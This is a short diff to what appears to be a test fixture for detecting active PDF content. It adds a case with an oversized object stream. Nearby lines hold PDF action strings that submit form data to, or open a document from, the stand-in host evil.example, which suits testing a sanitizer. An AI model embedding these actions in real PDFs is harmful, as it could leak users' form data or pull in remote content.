@@ -74,6 +74,7 @@ export const ACTIVE_PDFS = {
       ...Array.from({ length: 21 }, () => 'null'),
       ...Array.from({ length: 21 }, (_, index) => `<</OpenAction ${index + 4} 0 R>>`),
     ),
+  'has an object stream larger than is read': () => withPackedAction(`[3 0 R/Fit]${' '.repeat(2 * 1024 * 1024)}`),
   'sends a form': () => withAction('<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>'),
   'goes to another document': () => withAction('<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>'),
   'fetches data for its form': () => withAction('<</S/ImportData/F(a.fdf)>>'),
